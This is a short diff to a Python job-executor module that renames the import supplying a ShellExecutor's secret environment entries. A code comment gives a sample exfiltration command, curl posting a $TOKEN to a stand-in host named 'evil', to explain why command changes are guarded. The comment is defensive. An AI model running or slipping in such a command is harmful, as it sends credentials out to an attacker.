@@ -31,7 +31,7 @@ from typing import Annotated, Any, ClassVar
 import psutil
 from pydantic import BeforeValidator, Field, field_validator
 
-from executors import secrets
+import confidential
 from executors.base import (
     ConfigError,
     ExecutionContext,
@@ -345,7 +345,7 @@ class ShellExecutor(Executor):
     runs_code = True
     dkron_checked_keys = frozenset({"timeout", "mem_limit"})  # Dkron's Job.Validate
     secret_keys: ClassVar[frozenset[str]] = frozenset()
-    secret_entries: ClassVar[Mapping[str, str]] = {"env": secrets.ENV}
+    secret_entries: ClassVar[Mapping[str, str]] = {"env": confidential.ENV}
     # The code that receives the environment: a changed command could send it anywhere
     # (`curl -d $TOKEN evil`), so a kept env value needs the same command, shell and cwd.
     destination_keys: ClassVar[frozenset[str]] = frozenset({"command", "shell", "cwd"})
